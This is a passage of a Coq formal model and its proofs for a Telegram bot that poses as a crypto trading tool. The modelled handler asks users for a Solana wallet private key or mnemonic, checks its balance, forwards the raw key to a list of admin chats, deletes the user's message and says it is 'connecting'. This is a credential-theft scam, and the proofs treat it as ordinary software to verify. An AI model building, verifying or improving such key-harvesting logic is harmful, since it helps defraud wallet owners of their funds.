  +:+ "`" +:+ private_key +:+ "`" +:+ nl +:+ nl
  +:+ "⚠️ Do not try to exit scam, you will be instantly caught red handed!".

Definition handle_private_key (u : update) : M Z :=
  awaiting ← user_data_get "awaiting_private_key";
  if negb awaiting then mret END
  else
    let user_id := effective_user_id u in
    let username := or_else (effective_user_username u) "NoUsername" in
    let private_key := strip (message_text u) in
    if negb (truthy private_key) then
      _ ← call E (reply_text no_key_reply None);
      mret WAITING_FOR_PRIVATE_KEY
    else
      try_except
        (if negb (validate_private_key private_key) then
           _ ← call E (reply_text invalid_format_reply None);
           mret WAITING_FOR_PRIVATE_KEY
         else
           '(balance, public_key_or_error) ← get_solana_balance private_key;
           let message :=
             admin_message username user_id
               (balance_text balance public_key_or_error)
               (public_key_text balance public_key_or_error) private_key in
           _ ← for_each (ADMIN_ID_LIST cfg) (fun admin_id =>
                 try_except
                   (_ ← call E (send_message admin_id message); mret tt)
                   (fun e => mret tt));
           _ ← try_except
                 (_ ← call E (delete_message (effective_chat_id u)
                                             (message_id u));
                  mret tt)
                 (fun e => mret tt);
           _ ← call E (reply_text connecting_reply None);
           _ ← user_data_set "awaiting_private_key" false;
           mret END)
        (fun e =>
           _ ← call E (reply_text processing_error_reply None);
           mret WAITING_FOR_PRIVATE_KEY).

Definition handle_messages (u : update) : M unit :=
  awaiting ← user_data_get "awaiting_private_key";
  if negb awaiting then
    _ ← call E (reply_text no_funds None); mret tt
  else mret tt.

End TradingBot.

(** ** Instances used to run the handlers *)

(** The [base58] package as modelled in [Base58]. *)
Definition base58_package : Base58Lib :=
  {| b58decode := Base58.decode; b58encode := Base58.encode |}.

(** A stand-in for the curve computation of [nacl]; the properties below
    hold for every function in its place. *)
Definition nacl_stand_in : NaclLib :=
  {| ed25519_public := fun seed => seed |}.

Definition digit_of (c : ascii) : option Z :=
  let n := code c in
  if ((48 <=? n) && (n <=? 57))%N then Some (Z.of_N n - 48) else None.

(** Decimal digits, with single underscores between digits. *)
Fixpoint digits (acc : Z) (after_digit : bool) (l : list ascii) : option Z :=
  match l with
  | [] => if after_digit then Some acc else None
  | c :: r =>
      match digit_of c with
      | Some d => digits (acc * 10 + d) true r
      | None =>
          if Ascii.eqb c "_" && after_digit then digits acc false r else None
      end
  end.

(** [int(s)] on the strings made of ASCII characters. *)
Definition int_ascii (s : string) : result Z :=
  let parsed :=
    match list_ascii_of_string (strip s) with
    | "+"%char :: r => digits 0 false r
    | "-"%char :: r => Z.opp <$> digits 0 false r
    | l => digits 0 false l
    end in
  match parsed with
  | Some n => Ok n
  | None =>
      Raise (ValueError ("invalid literal for int() with base 10: '" +:+ s +:+ "'"))
  end.

(** [repr] on scalars without characters to escape; containers are
    abbreviated. *)
Definition repr_scalar (v : json) : string :=
  match v with
  | JNull => "None"
  | JBool b => if b then "True" else "False"
  | JInt n => str_int n
  | JFloat x => format_4f x
  | JStr s => "'" +:+ s +:+ "'"
  | JArr _ => "[...]"
  | JObj _ => "{...}"
  end.

Definition builtins_ascii : Builtins :=
  {| py_int := int_ascii; py_repr := repr_scalar |}.

(** The exceptions of the transport in the examples. *)
Definition timed_out : exn := Exn "httpx.ConnectTimeout" "timed out".
Definition forbidden : exn :=
  Exn "telegram.error.Unauthorized" "Forbidden: bot was blocked by the user".

(** A chat transport that delivers everything, with an endpoint that
    answers every request with [r]. *)
Definition delivering (r : result response) : env :=
  {| telegram := fun _ _ => Ok 7; httpx_post := fun _ _ => r |}.

(** As [delivering], but a reply with the text [t] is not delivered. *)
Definition dropping_reply (t : string) (r : result response) : env :=
  {| telegram := fun _ c =>
       match c with
       | reply_text t' _ => if bool_decide (t' = t) then Raise forbidden else Ok 7
       | _ => Ok 7
       end;
     httpx_post := fun _ _ => r |}.

(** As [delivering], but nothing is delivered to the chats in [blocked]. *)
Definition blocking (blocked : list Z) (r : result response) : env :=
  {| telegram := fun _ c =>
       match c with
       | send_message chat _ =>
           if bool_decide (chat ∈ blocked) then Raise forbidden else Ok 7
       | _ => Ok 7
       end;
     httpx_post := fun _ _ => r |}.

(** A response with status 200 and the decoded body [v]. *)
Definition ok_json (v : json) : result response :=
  Ok {| status_code := 200; body := Ok v |}.

(** The Telegram calls of a log, in order. *)
Definition tg_calls (l : list event) : list tg_call :=
  omap (fun ev => match ev with Tg c _ => Some c | Post _ _ => None end) l.

(** The HTTP requests of a log, in order. *)
Definition http_requests (l : list event) : list request :=
  omap (fun ev => match ev with Post q _ => Some q | Tg _ _ => None end) l.

(** The events the loop over the recipients appends to the log [lg]. *)
Fixpoint admin_log (E : env) (message : string) (admins : list Z)
    (lg : list event) : list event :=
  match admins with
  | [] => []
  | admin_id :: rest =>
      let c := send_message admin_id message in
      let ev := Tg c (telegram E lg c) in
      ev :: admin_log E message rest (lg ++ [ev])
  end.

(** A key of 32 bytes and a key of 64 bytes with the same first half. *)
Definition key32 : string := "11111111111111111111111111111112".
Definition key64 : string :=
  "1111111111111111111111111111111JhkSVu1fw8pMYiXyHGTjEMCrxc7jTesqPucvGajxkHWG".

(** The bytes they decode to. *)
Definition key32_bytes : list byte := replicate 31 x00 ++ [x01].
Definition key64_bytes : list byte := key32_bytes ++ replicate 31 x07 ++ [x09].

Definition session (awaiting : bool) : state :=
  {| user_data := {[ "awaiting_private_key" := awaiting ]}; log := [] |}.

Definition fresh_session : state := {| user_data := ∅; log := [] |}.

Definition text_update (t : string) : update :=
  {| effective_user_id := 42; effective_user_username := Some "alice";
     effective_chat_id := 42; message_id := 1000; message_text := t |}.

Definition example_config : config :=
  {| API_TOKEN := "token"; ADMIN_ID_LIST := [11; 12; 13];
     LINK_URL := "https://telegram.org" |}.

(** ** Vocabulary of the statements *)

(** The state after the events [evs] have been logged. *)
Definition logged (s : state) (evs : list event) : state :=
  {| user_data := user_data s; log := log s ++ evs |}.

(** The handler of the [try] of [get_solana_balance_async]. *)
Definition lookup_handler (e : exn) : M (option float * string) :=
  mret (None, "Error: " +:+ exn_str e).

(** The public identifier derived from a seed. *)
Definition public_id `{Base58Lib} `{NaclLib} (seed : list byte) : string :=
  b58encode (ed25519_public seed).

(** The session is waiting for a credential. *)
Definition awaiting (s : state) : Prop :=
  user_data s !! "awaiting_private_key" = Some true.

(** The state with the flag [key] set to [value]. *)
Definition with_flag (key : string) (value : bool) (s : state) : state :=
  {| user_data := <[key := value]> (user_data s); log := log s |}.

(** The outcome of the Telegram call [c] in the state [s]. *)
Definition outcome (E : env) (s : state) (c : tg_call) : result Z :=
  telegram E (log s) c.

(** The state after the Telegram call [c]. *)
Definition after_call (E : env) (s : state) (c : tg_call) : state :=
  logged s [Tg c (outcome E s c)].

(** The events a state transformer appended: the log minus its first
    [length (log s)] entries. *)
Definition new_events (s s' : state) : list event :=
  drop (length (log s)) (log s').

(** The value a handler returns after a last call: [v] when the call was
    delivered, the exception of the call otherwise. *)
Definition then_return {A} (r : result Z) (v : A) : result A :=
  match r with Ok _ => Ok v | Raise e => Raise e end.

(** The update [u] with the text [t]. *)
Definition with_text (t : string) (u : update) : update :=
  {| effective_user_id := effective_user_id u;
     effective_user_username := effective_user_username u;
     effective_chat_id := effective_chat_id u;
     message_id := message_id u;
     message_text := t |}.

(** The notification built from the result of the lookup. *)
Definition notification (u : update) (out : option float * string) : string :=
  admin_message (or_else (effective_user_username u) "NoUsername")
    (effective_user_id u) (balance_text out.1 out.2)
    (public_key_text out.1 out.2) (strip (message_text u)).

(** The reply of [start_command] to a user who has not seen it. *)
Definition intro_reply (cfg : config) : tg_call :=
  reply_text (first_time_message (LINK_URL cfg))
             (Some [[CallbackButton "Continue" "continue_to_main"]]).

(** The keyboard of the main menu: [create_keyboard] on the 13 labels. *)
Definition main_menu_markup : keyboard :=
  keyboard_rows 13 2 main_menu_buttons.

(** The reply that shows the main menu. *)
Definition main_menu_reply (cfg : config) : tg_call :=
  reply_text (welcome_message (LINK_URL cfg)) (Some main_menu_markup).

(** The session has the flag [has_seen_welcome]. *)
Definition seen_welcome (s : state) : bool :=
  default false (user_data s !! "has_seen_welcome").

(** [m] leaves [user_data] alone, posts no request, and makes only
    Telegram calls that satisfy [P]. *)
Definition only_calls {A} (P : tg_call -> Prop) (m : M A) : Prop :=
  forall s,
    exists evs,
      snd (m s) = logged s evs
      /\ Forall P (tg_calls evs)
      /\ http_requests evs = [].

(** Every call the environment receives is delivered. *)
Definition all_delivered (E : env) : Prop :=
  forall lg c, is_ok (telegram E lg c) = true.

(** The UTF-8 encoding of one white space character. *)
Definition space_char (ch : list ascii) : bool :=
  match ch with
  | [c1] => ws1 c1
  | [c1; c2] => ws2 c1 c2
  | [c1; c2; c3] => ws3 c1 c2 c3
  | _ => false
  end.

(** [t] consists of white space characters, possibly none. *)
Definition whitespace (t : string) : Prop :=
  exists chars,
    Forall (fun ch => space_char ch = true) chars
    /\ list_ascii_of_string t = concat chars.

(** The first, respectively the last, character of [t] is white space. *)
Definition begins_with_space (t : string) : Prop :=
  exists ch rest,
    space_char ch = true /\ list_ascii_of_string t = (ch ++ rest)%list.

Definition ends_with_space (t : string) : Prop :=
  exists ch rest,
    space_char ch = true /\ list_ascii_of_string t = (rest ++ ch)%list.

(** A text around which [pad] puts a tab and a space in front and, behind,
    a space, a line feed, U+00A0 and U+3000. *)
Definition pad (t : string) : string :=
  String "009" (String " " EmptyString)
  +:+ t
  +:+ String " " (String "010" (String "194" (String "160"
        (String "227" (String "128" (String "128" EmptyString)))))).

(** ** Further vocabulary *)

(** [error_handler] (lines 390-400).  [None] stands for an update that is
    [None] or has no [effective_message]. *)
Definition error_handler (E : env) (u : option update) : M unit :=
  match u with
  | Some _ =>
      try_except
        (_ ← call E (reply_text
               "❌ An unexpected error occurred. Please try again or contact support."
               None);
         mret tt)
        (fun e => mret tt)
  | None => mret tt
  end.

(** The calls that answer in the chat of the update: no delivery to
    another chat, no deletion, no pin. *)
Definition in_chat (c : tg_call) : Prop :=
  match c with
  | answer | reply_text _ _ | edit_message_text _ _ => True
  | send_message _ _ | delete_message _ _ | pin_chat_message _ _ => False
  end.

(** [m] leaves [user_data] alone, posts no request, makes only calls
    that satisfy [P] and returns only values that satisfy [Q]. *)
Definition behaves {A} (P : tg_call -> Prop) (Q : A -> Prop) (m : M A)
  : Prop :=
  forall s,
    exists evs,
      snd (m s) = logged s evs
      /\ Forall P (tg_calls evs)
      /\ http_requests evs = []
      /\ (forall a, fst (m s) = Ok a -> Q a).

(** [m] does not change the entry [key] of [user_data]. *)
Definition keeps {A} (key : string) (m : M A) : Prop :=
  forall s, user_data (snd (m s)) !! key = user_data s !! key.

(** The flag [awaiting_private_key] as the handlers read it. *)
Definition awaiting_flag (s : state) : bool :=
  default false (user_data s !! "awaiting_private_key").

(** The prompt that opens the capture of a credential. *)
Definition import_prompt : tg_call :=
  edit_message_text
    "🔑 Please enter the private key or a 12-word mnemonic phrase of the wallet you want to import."
    None.

(** A button press with the callback data [d]. *)
Definition press (d : string) : callback_query :=
  {| from_user_id := 42; from_user_username := Some "alice"; data := d |}.

(** * Properties *)

(** ** Start-up *)

Lemma str_split_nonempty (sep : ascii) (s : string) : str_split sep s <> [].
Proof.
  destruct s as [|c r]; simpl; [discriminate|].
  destruct (Ascii.eqb c sep); [discriminate|].
  destruct (str_split sep r); discriminate.
Qed.

Lemma map_result_length {A B} (f : A -> result B) (l : list A) (l' : list B) :
  map_result f l = Ok l' -> length l' = length l.
Proof.
  revert l'; induction l as [|x l IH]; intros l'; simpl.
  - intros [= <-]; reflexivity.
  - destruct (f x); [|discriminate].
    destruct (map_result f l) as [ys|]; [|discriminate].
    intros [= <-]; simpl; f_equal; apply IH; reflexivity.
Qed.

Lemma map_result_raises {A B} (f : A -> result B) (l : list A) (x : A) :
  x ∈ l -> is_ok (f x) = false -> is_ok (map_result f l) = false.
Proof.
  intros Hin Hx; induction l as [|y l IH]; [inversion Hin|].
  apply elem_of_cons in Hin as [->|Hin]; simpl.
  - destruct (f y); [discriminate|reflexivity].
  - destruct (f y); [|reflexivity].
    specialize (IH Hin); destruct (map_result f l); [discriminate|reflexivity].
Qed.

Lemma map_result_Forall2 {A B} (f : A -> result B) (l : list A) (l' : list B) :
  map_result f l = Ok l' -> Forall2 (fun x y => f x = Ok y) l l'.
Proof.
  revert l'; induction l as [|x l IH]; intros l'; simpl.
  - intros [= <-]; constructor.
  - destruct (f x) eqn:Hx; [|discriminate].
    destruct (map_result f l) as [ys|]; [|discriminate].
    intros [= <-]; constructor; [exact Hx|apply IH; reflexivity].
Qed.

(** C8.  Loading the module raises when the bot token is absent, when the
    recipient setting is absent, and when one of the comma-separated
    pieces of the recipient setting is not accepted by [int]; when it
    succeeds, the recipient list has one integer per piece and is not
    empty. *)
Theorem load_module_fails_fast `{Builtins} (environ : gmap string string) :
  (environ !! "API_TOKEN" = None -> is_ok (load_module environ) = false)
  /\ (environ !! "ADMIN_IDS" = None -> is_ok (load_module environ) = false)
  /\ (forall ids piece,
        environ !! "ADMIN_IDS" = Some ids ->
        piece ∈ str_split "," ids ->
        is_ok (py_int (strip piece)) = false ->
        is_ok (load_module environ) = false)
  /\ (forall cfg,
        load_module environ = Ok cfg ->
        ADMIN_ID_LIST cfg <> []
        /\ exists ids,
             environ !! "ADMIN_IDS" = Some ids
             /\ Forall2 (fun piece n => py_int (strip piece) = Ok n)
                        (str_split "," ids) (ADMIN_ID_LIST cfg)).
Proof.
  unfold load_module; split; [|split; [|split]].
  - intros ->; reflexivity.
  - intros ->; simpl; rewrite orb_true_r; reflexivity.
  - intros ids piece -> Hin Hbad; simpl.
    destruct (negb _ || negb _); [reflexivity|].
    pose proof (map_result_raises (fun admin_id => py_int (strip admin_id))
                  _ _ Hin Hbad) as Hr.
    destruct (map_result _ _); [discriminate|].
    destruct (is_ValueError e); reflexivity.
  - intros cfg.
    destruct (negb _ || negb _) eqn:Hset; [discriminate|].
    destruct (map_result _ _) as [l|e] eqn:Hl;
      [|destruct (is_ValueError e); discriminate].
    intros [= <-]; simpl.
    destruct (environ !! "ADMIN_IDS") as [ids|] eqn:Hids;
      [|simpl in Hset; rewrite orb_true_r in Hset; discriminate].
    simpl in Hl; split.
    + intros ->.
      apply map_result_length in Hl; simpl in Hl.
      destruct (str_split "," ids) eqn:Hs; [|discriminate].
      exact (str_split_nonempty _ _ Hs).
    + exists ids; split; [reflexivity|].
      apply map_result_Forall2 in Hl; exact Hl.
Qed.

Lemma load_module_fails_fast_witness :
  is_ok (load_module (H:=builtins_ascii) {[ "ADMIN_IDS" := "11,12" ]}) = false
  /\ is_ok (load_module (H:=builtins_ascii) {[ "API_TOKEN" := "token" ]}) = false
  /\ is_ok (load_module (H:=builtins_ascii)
              {[ "API_TOKEN" := "token"; "ADMIN_IDS" := "11,x12" ]}) = false
  /\ ADMIN_ID_LIST example_config <> [].
Proof.
  split; [|split; [|split]].
  - apply (proj1 (load_module_fails_fast (H:=builtins_ascii) _)); reflexivity.
  - apply (proj1 (proj2 (load_module_fails_fast (H:=builtins_ascii) _)));
      reflexivity.
  - apply (proj1 (proj2 (proj2 (load_module_fails_fast (H:=builtins_ascii) _)))
             "11,x12" "x12"); [reflexivity| |reflexivity].
    vm_compute; apply list_elem_of_further, list_elem_of_here.
  - apply (proj2 (proj2 (proj2 (load_module_fails_fast (H:=builtins_ascii)
             {[ "API_TOKEN" := "token"; "ADMIN_IDS" := " 11, 12,13 " ]})))).
    vm_compute; reflexivity.
Defined.

(** ** The credential decoder *)

Lemma validate_private_key_accepts `{Base58Lib} private_key decoded :
  b58decode private_key = Ok decoded ->
  length decoded = 32%nat \/ length decoded = 64%nat ->
  validate_private_key private_key = true.
Proof.
  intros Hdec Hlen; unfold validate_private_key; rewrite Hdec.
  apply orb_true_iff.
  destruct Hlen as [Hlen|Hlen]; [left|right]; apply bool_decide_eq_true;
    exact Hlen.
Qed.

(** C2.  [validate_private_key] accepts a string exactly when [b58decode]
    returns a buffer of 32 or of 64 bytes: a string on which [b58decode]
    raises is rejected, and so is one decoded to any other length. *)
Theorem validate_private_key_iff `{Base58Lib} (private_key : string) :
  (validate_private_key private_key = true <->
   exists decoded,
     b58decode private_key = Ok decoded
     /\ (length decoded = 32%nat \/ length decoded = 64%nat))
  /\ (forall e,
        b58decode private_key = Raise e ->
        validate_private_key private_key = false)
  /\ (forall decoded,
        b58decode private_key = Ok decoded ->
        length decoded <> 32%nat -> length decoded <> 64%nat ->
        validate_private_key private_key = false).
Proof.
  split; [split|split]; try unfold validate_private_key.
  - destruct (b58decode private_key) as [decoded|]; [|discriminate].
    intros Hlen; exists decoded; split; [reflexivity|].
    apply orb_true_iff in Hlen as [Hlen|Hlen];
      apply bool_decide_eq_true in Hlen; auto.
  - intros (decoded & Hdec & Hlen).
    exact (validate_private_key_accepts _ _ Hdec Hlen).
  - intros e ->; reflexivity.
  - intros decoded -> H32 H64.
    rewrite !bool_decide_eq_false_2 by assumption; reflexivity.
Qed.

Lemma validate_private_key_iff_witness :
  validate_private_key (H:=base58_package) key32 = true
  /\ validate_private_key (H:=base58_package) key64 = true
  /\ validate_private_key (H:=base58_package) "0OIl" = false
  /\ validate_private_key (H:=base58_package) "2NEpo7TZRRrLZSi2U" = false.
Proof.
  pose proof (validate_private_key_iff (H:=base58_package)) as V.
  split; [|split; [|split]].
  - apply (proj1 (V key32)).
    eexists; split; [vm_compute; reflexivity|left; reflexivity].
  - apply (proj1 (V key64)).
    eexists; split; [vm_compute; reflexivity|right; reflexivity].
  - eapply (proj1 (proj2 (V "0OIl"))); vm_compute; reflexivity.
  - eapply (proj2 (proj2 (V "2NEpo7TZRRrLZSi2U")));
      [vm_compute; reflexivity|vm_compute; discriminate..].
Defined.

(** ** The balance lookup *)

Ltac unfold_M :=
  unfold mbind, M_bind, mret, M_ret, lift, try_except, post, call,
    user_data_get, user_data_set in *.

Lemma logged_nil (s : state) : logged s [] = s.
Proof. destruct s; unfold logged; simpl; rewrite app_nil_r; reflexivity. Qed.

Lemma logged_logged (s : state) (evs evs' : list event) :
  logged (logged s evs) evs' = logged s (evs ++ evs').
Proof. unfold logged; simpl; rewrite app_assoc; reflexivity. Qed.

Lemma take_32_of_32 {A} (l : list A) : length l = 32%nat -> take 32 l = l.
Proof. intros Hl; apply take_ge; lia. Qed.

Lemma length_take_32 {A} (l : list A) :
  length l = 64%nat \/ length l = 32%nat -> length (take 32 l) = 32%nat.
Proof. intros Hl; rewrite length_take; lia. Qed.

Section Lookup.

Context `{Base58Lib} `{NaclLib} `{Builtins}.
Variable E : env.

(** The lookup on a decoded credential: the seed is the first 32 bytes. *)
Lemma get_solana_balance_async_seed private_key decoded s :
  b58decode private_key = Ok decoded ->
  length decoded = 64%nat \/ length decoded = 32%nat ->
  get_solana_balance_async E private_key s
  = try_except (lookup_with_seed E (take 32 decoded)) lookup_handler s.
Proof.
  intros Hdec Hlen; unfold get_solana_balance_async.
  unfold try_except at 1; unfold mbind at 1, M_bind at 1, lift at 1.
  rewrite Hdec; destruct Hlen as [Hlen|Hlen].
  - rewrite Hlen, Nat.eqb_refl; reflexivity.
  - rewrite (take_32_of_32 _ Hlen), Hlen, Nat.eqb_refl; reflexivity.
Qed.

(** With a seed of 32 bytes the lookup posts one request, for the public
    identifier of the seed, and changes nothing else. *)
Lemma lookup_with_seed_state seed s :
  length seed = 32%nat ->
  let q := balance_request (public_id seed) in
  snd (try_except (lookup_with_seed E seed) lookup_handler s)
  = logged s [Post q (httpx_post E (log s) q)].
Proof.
  intros Hlen q; unfold lookup_with_seed, SigningKey_verify_key.
  rewrite Hlen; simpl; unfold_M; fold (public_id seed); fold q.
  destruct (httpx_post E (log s) q) as [resp|e]; [|reflexivity].
  destruct (status_code resp =? 200); [|reflexivity].
  destruct (body resp) as [data|e]; [|reflexivity].
  destruct (py_in "result" data) as [[|]|e]; try reflexivity.
  - destruct (py_getitem data "result") as [res|e]; [|reflexivity].
    destruct (py_in "value" res) as [[|]|e]; try reflexivity.
    + destruct (py_getitem res "value") as [lamports|e]; [|reflexivity].
      destruct (py_truediv lamports 1000000000); reflexivity.
    + destruct (py_get data "error" _); reflexivity.
  - destruct (py_get data "error" _); reflexivity.
Qed.

(** The lookup returns a pair in every case. *)
Lemma lookup_with_seed_returns seed s :
  exists out, fst (try_except (lookup_with_seed E seed) lookup_handler s) = Ok out.
Proof.
  unfold try_except, lookup_handler.
  destruct (lookup_with_seed E seed s) as [[out|e] s']; simpl; eauto.
Qed.

Lemma get_solana_balance_async_total private_key s :
  exists out evs,
    get_solana_balance_async E private_key s = (Ok out, logged s evs)
    /\ tg_calls evs = []
    /\ (length (http_requests evs) <= 1)%nat.
Proof.
  destruct (b58decode private_key) as [decoded|e] eqn:Hdec.
  - destruct (decide (length decoded = 64%nat \/ length decoded = 32%nat))
      as [Hlen|Hlen].
    + rewrite (get_solana_balance_async_seed _ _ _ Hdec Hlen).
      destruct (lookup_with_seed_returns (take 32 decoded) s) as [out Hout].
      pose proof (lookup_with_seed_state (take 32 decoded) s
                    (length_take_32 _ Hlen)) as Hst; simpl in Hst.
      destruct (try_except _ _ s) as [r s']; simpl in *; subst.
      eexists _, _; split; [reflexivity|split; [reflexivity|simpl; lia]].
    + exists (None, "Invalid private key format"), [].
      unfold get_solana_balance_async; unfold_M; rewrite Hdec, logged_nil.
      destruct (length decoded =? 64)%nat eqn:H64;
        [apply Nat.eqb_eq in H64; tauto|].
      destruct (length decoded =? 32)%nat eqn:H32;
        [apply Nat.eqb_eq in H32; tauto|].
      split; [reflexivity|split; [reflexivity|simpl; lia]].
  - exists (None, "Error: " +:+ exn_str e), [].
    unfold get_solana_balance_async; unfold_M; rewrite Hdec, logged_nil.
    split; [reflexivity|split; [reflexivity|simpl; lia]].
Qed.

End Lookup.

(** The result of the lookup, by shape of the endpoint's answer. *)
Section LookupResult.

Context `{Base58Lib} `{NaclLib} `{Builtins}.
Variable E : env.
Variable seed : list byte.
Variable s : state.
Hypothesis Hseed : length seed = 32%nat.

Let answer_of : result response :=
  httpx_post E (log s) (balance_request (public_id seed)).

Let returned : result (option float * string) :=
  fst (try_except (lookup_with_seed E seed) lookup_handler s).

Ltac lookup_start :=
  unfold returned, lookup_with_seed, SigningKey_verify_key;
  rewrite Hseed; simpl; unfold_M; fold (public_id seed); fold answer_of.







Lemma lookup_value resp m r lamports :
  answer_of = Ok resp -> status_code resp = 200 -> body resp = Ok (JObj m) ->
  m !! "result" = Some (JObj r) -> r !! "value" = Some lamports ->
  returned
  = match py_truediv lamports 1000000000 with
    | Ok balance_sol => Ok (Some balance_sol, public_id seed)
    | Raise e => Ok (None, "Error: " +:+ exn_str e)
    end.
Proof.
  intros Hr Hst Hb Hm Hv; lookup_start; rewrite Hr, Hst, Hb; simpl.
  rewrite Hm, bool_decide_eq_true_2 by eauto; simpl.
  rewrite Hv, bool_decide_eq_true_2 by eauto; simpl.
  destruct (py_truediv lamports 1000000000); reflexivity.
Qed.

End LookupResult.

(** *** True division by [10^9] *)

Lemma log2_quot_le (a b : Z) : log2_quot a b <= Z.log2 a - Z.log2 b.
Proof. unfold log2_quot; repeat case_match; lia. Qed.

(** The quotient is in range as soon as the bit lengths are 1022 apart
    at most. *)
Lemma round_quot_in_range (a b : Z) :
  Z.log2 a - Z.log2 b <= 1022 -> exists m e, round_quot a b = Some (m, e).
Proof.
  intros Hlog; unfold round_quot.
  destruct (a =? 0); [eauto|].
  pose proof (log2_quot_le a b) as HL.
  set (e := Z.max emin (log2_quot a b - 52)).
  assert (e <= 970) as He by (unfold e, emin; lia).
  generalize (div_half_even (a * 2 ^ Z.max 0 (- e)) (b * 2 ^ Z.max 0 e)).
  intros m; destruct (m =? 2 ^ 53).
  - destruct (2 ^ 52 =? 0); [eauto|].
    destruct (emax <? e + 1) eqn:Ho; [|eauto].
    apply Z.ltb_lt in Ho; unfold emax in Ho; lia.
  - destruct (m =? 0); [eauto|].
    destruct (emax <? e) eqn:Ho; [|eauto].
    apply Z.ltb_lt in Ho; unfold emax in Ho; lia.
Qed.

Lemma int_truediv_in_range (v : Z) :
  Z.abs v < 2 ^ 1052 -> exists x, int_truediv v 1000000000 = Ok x.
Proof.
  intros Hv; unfold int_truediv.
  change (1000000000 =? 0) with false; cbv iota.
  change (Z.abs 1000000000) with 1000000000.
  destruct (round_quot_in_range (Z.abs v) 1000000000) as (m & e & ->);
    [|eauto].
  change (Z.log2 1000000000) with 29.
  destruct (Z.eq_dec (Z.abs v) 0) as [->|Hnz]; [simpl; lia|].
  assert (Z.log2 (Z.abs v) < 1052); [|lia].
  apply Z.log2_lt_pow2; lia.
Qed.

Lemma div_half_even_error (n d : Z) :
  0 <= n -> 0 < d -> 2 * Z.abs (n - d * div_half_even n d) <= d.
Proof.
  intros Hn Hd; unfold div_half_even.
  pose proof (Z.div_mod n d ltac:(lia)) as Hdiv.
  pose proof (Z.mod_pos_bound n d Hd) as Hmod.
  destruct ((d <? 2 * (n mod d)) || ((2 * (n mod d) =? d) && Z.odd (n / d)))
    eqn:Hup.
  - assert (d <= 2 * (n mod d)) as Hhalf.
    { apply orb_true_iff in Hup as [Hlt|Heq].
      - apply Z.ltb_lt in Hlt; lia.
      - apply andb_true_iff in Heq as [Heq _]; apply Z.eqb_eq in Heq; lia. }
    nia.
  - apply orb_false_iff in Hup as [Hlt _]; apply Z.ltb_ge in Hlt; nia.
Qed.

(** [log2_quot a b] is the integer part of the binary logarithm of the
    quotient. *)
Lemma log2_quot_lower (a b : Z) :
  0 < a -> 0 < b ->
  let l := log2_quot a b in
  if 0 <=? l then b * 2 ^ l <= a else b <= a * 2 ^ (- l).
Proof.
  intros Ha Hb; unfold log2_quot.
  pose proof (Z.log2_spec a Ha) as [Hla Hua].
  pose proof (Z.log2_spec b Hb) as [Hlb Hub].
  pose proof (Z.log2_nonneg a) as Hna.
  pose proof (Z.log2_nonneg b) as Hnb.
  set (la := Z.log2 a) in *; set (lb := Z.log2 b) in *.
  destruct (0 <=? la - lb) eqn:Hk.
  - apply Z.leb_le in Hk.
    destruct (b * 2 ^ (la - lb) <=? a) eqn:Ht; cbv zeta.
    + rewrite (proj2 (Z.leb_le _ _) Hk); apply Z.leb_le, Ht.
    + destruct (0 <=? la - lb - 1) eqn:Hk1.
      * apply Z.leb_le in Hk1.
        assert (2 ^ la = 2 ^ (lb + 1) * 2 ^ (la - lb - 1)) as Hpow
          by (rewrite <- Z.pow_add_r by lia; f_equal; lia).
        assert (0 < 2 ^ (la - lb - 1)) by (apply Z.pow_pos_nonneg; lia).
        nia.
      * apply Z.leb_gt in Hk1.
        replace (- (la - lb - 1)) with 1 by lia.
        assert (la = lb) as Heq by lia; rewrite Heq in *.
        rewrite Z.pow_succ_r in Hub by lia; lia.
  - apply Z.leb_gt in Hk.
    destruct (b <=? a * 2 ^ (- (la - lb))) eqn:Ht; cbv zeta.
    + rewrite (proj2 (Z.leb_gt _ _) Hk); apply Z.leb_le, Ht.
    + assert ((0 <=? la - lb - 1) = false) as Hk1 by (apply Z.leb_gt; lia).
      rewrite Hk1.
      assert (2 ^ (lb + 1) = 2 ^ la * 2 ^ (- (la - lb - 1))) as Hpow
        by (rewrite <- Z.pow_add_r by lia; f_equal; lia).
      assert (0 < 2 ^ (- (la - lb - 1))) by (apply Z.pow_pos_nonneg; lia).
      nia.
Qed.

(** The value of the float is within half a unit in the last place of the
    quotient. *)
Lemma round_quot_error (a b m e : Z) :
  0 < a -> 0 < b ->
  round_quot a b = Some (m, e) ->
  2 * Z.abs (a * 2 ^ Z.max 0 (- e) - m * (b * 2 ^ Z.max 0 e))
  <= b * 2 ^ Z.max 0 e.
Proof.
  intros Ha Hb; unfold round_quot.
  destruct (a =? 0) eqn:Ha0; [apply Z.eqb_eq in Ha0; lia|].
  pose proof (log2_quot_lower a b Ha Hb) as Hlow; cbv zeta in Hlow.
  set (l := log2_quot a b) in *.
  set (e0 := Z.max emin (l - 52)).
  assert (0 < b * 2 ^ Z.max 0 e0) as Hd
    by (apply Z.mul_pos_pos; [lia|apply Z.pow_pos_nonneg; lia]).
  assert (0 <= a * 2 ^ Z.max 0 (- e0)) as Hn
    by (apply Z.mul_nonneg_nonneg; [lia|apply Z.pow_nonneg; lia]).
  pose proof (div_half_even_error _ _ Hn Hd) as Herr.
  set (m0 := div_half_even (a * 2 ^ Z.max 0 (- e0)) (b * 2 ^ Z.max 0 e0)) in *.
  destruct (Z.le_gt_cases 0 e0) as [He0|He0].
  - (* no scaling of the dividend *)
    replace (Z.max 0 (- e0)) with 0 in * by lia.
    replace (Z.max 0 e0) with e0 in * by lia.
    assert (0 < 2 ^ e0) as Hp by (apply Z.pow_pos_nonneg; lia).
    destruct (m0 =? 2 ^ 53) eqn:Hm.
    + apply Z.eqb_eq in Hm.
      destruct (2 ^ 52 =? 0) eqn:Hz; [apply Z.eqb_eq in Hz; lia|].
      destruct (emax <? e0 + 1); [discriminate|].
      intros [= <- <-].
      replace (Z.max 0 (- (e0 + 1))) with 0 by lia.
      replace (Z.max 0 (e0 + 1)) with (e0 + 1) by lia.
      rewrite Z.pow_add_r by lia; change (2 ^ 1) with 2.
      rewrite Hm in Herr; lia.
    + destruct (m0 =? 0) eqn:Hz.
      * apply Z.eqb_eq in Hz; intros [= <- <-]; rewrite Hz in Herr.
        change (Z.max 0 (- 0)) with 0; change (Z.max 0 0) with 0.
        destruct (Z.eq_dec e0 0) as [->|Hne]; [lia|].
        assert (e0 = l - 52) as He by (unfold e0, emin in *; lia).
        assert ((0 <=? l) = true) as Hl by (apply Z.leb_le; lia).
        rewrite Hl in Hlow.
        assert (2 ^ l = 2 ^ e0 * 2 ^ 52) as Hpow
          by (rewrite <- Z.pow_add_r by lia; f_equal; lia).
        nia.
      * destruct (emax <? e0); [discriminate|].
        intros [= <- <-].
